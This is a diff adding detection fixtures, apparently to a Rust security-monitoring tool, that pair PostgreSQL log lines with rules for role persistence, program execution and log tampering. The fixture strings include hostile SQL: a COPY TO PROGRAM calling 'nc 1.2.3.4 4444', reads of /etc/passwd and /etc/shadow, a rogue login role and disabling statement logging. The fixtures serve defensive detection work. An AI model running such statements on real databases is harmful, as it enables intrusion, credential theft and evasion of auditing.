@@ -294,6 +294,50 @@ pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
     ),
 ];
 
+/// Rules on PostgreSQL's log: the file's name, messages that it must find, and some that it must not.
+pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
+    (
+        "database-persistence",
+        &[
+            "duration: 12.345 ms  execute S_1: CREATE ROLE evil LOGIN",
+            "statement: /* app */ CREATE ROLE evil LOGIN",
+            "statement: begin; create role evil login; commit",
+            "statement: create role evil\n\tlogin",
+            "statement: GRANT pg_read_all_data TO evil",
+            "statement: CREATE EXTENSION IF NOT EXISTS dblink",
+            "AUDIT: SESSION,2,1,DDL,CREATE FUNCTION,FUNCTION,public.f,\"CREATE FUNCTION f() RETURNS void\",<none>",
+        ],
+        &[
+            "statement: SELECT * FROM roles WHERE name = 'x; create role y'",
+            "statement: INSERT INTO notes(body) VALUES ('grant all')",
+            "execute <unnamed>: INSERT INTO audit(event) VALUES ('user created')",
+            "statement: CREATE TABLE granted (id int)",
+            "statement: CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\"",
+            "AUDIT: SESSION,3,1,READ,SELECT,TABLE,public.roles,select 1,<none>",
+        ],
+    ),
+    (
+        "database-program-run",
+        &[
+            "statement: copy (select '') to program 'nc 1.2.3.4 4444'",
+            "statement: COPY t FROM '/etc/passwd'",
+            "statement: COPY (SELECT * FROM users) TO '/tmp/out.csv'",
+            "statement: select pg_read_binary_file ('/etc/shadow')",
+            "execute <unnamed>: select lo_import('/etc/passwd')",
+        ],
+        &[
+            "statement: COPY trades FROM STDIN",
+            "statement: COPY public.trades (id, v) TO stdout",
+            "execute <unnamed>/C_3: SELECT * FROM programs",
+        ],
+    ),
+    (
+        "database-log-changed",
+        &["statement: SELECT set_config('log_statement', 'none', false)", "statement: SET log_statement TO 'none'"],
+        &["statement: SHOW log_statement", "statement: SELECT set_config('app.user', '5', true)"],
+    ),
+];
+
 /// User agents of tools that look for weaknesses, and others.
 pub const AGENTS: (&[&str], &[&str]) = (
     &["ffuf/2.1.0", "Fuzz Faster U Fool v2.1.0-dev", "Wfuzz/3.1.0", "ZAP/2.14.0", "Mozilla/5.0 (Hydra)", "dirsearch"],
